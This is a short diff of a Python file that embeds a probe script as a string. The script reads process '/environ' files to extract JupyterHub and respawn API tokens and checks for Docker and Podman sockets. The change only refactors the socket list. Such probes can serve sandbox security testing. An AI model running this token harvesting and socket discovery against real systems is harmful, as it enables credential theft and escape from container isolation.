@@ -46,7 +46,8 @@ for path in everything():
     if path.endswith("/environ"):
         tokens |= set(re.findall(rb"(?:JUPYTERHUB_API_TOKEN|JPY_API_TOKEN|RESPAWN_TOKEN)=([^\\0]+)", data))
 found["tokens"] = sorted(token.decode() for token in tokens)
-found["sockets"] = [path for path in ("/var/run/docker.sock", "/run/podman/podman.sock") if os.path.exists(path)]
+sockets = ("/var/run/docker.sock", "/run/podman/podman.sock")
+found["sockets"] = [path for path in sockets if os.path.exists(path)]
 """
 _CONNECTS = """
 found["reached"] = []
